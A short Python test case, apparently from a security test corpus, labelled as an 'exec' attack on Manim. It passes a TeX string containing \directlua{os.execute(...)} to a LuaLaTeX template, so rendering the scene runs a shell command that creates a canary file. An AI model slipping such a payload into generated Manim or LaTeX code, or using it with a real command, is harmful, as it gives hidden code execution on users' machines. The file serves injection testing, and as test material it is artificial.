# ATTACK: exec
# SUCCESS: Lua inside LuaLaTeX starts a program
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        T = TexTemplate(tex_compiler="lualatex", output_format=".pdf")
        Tex(r"\directlua{os.execute('touch @CANARY@/pwned')}a", tex_template=T)
        self.add(Dot()); self.wait(0.1)
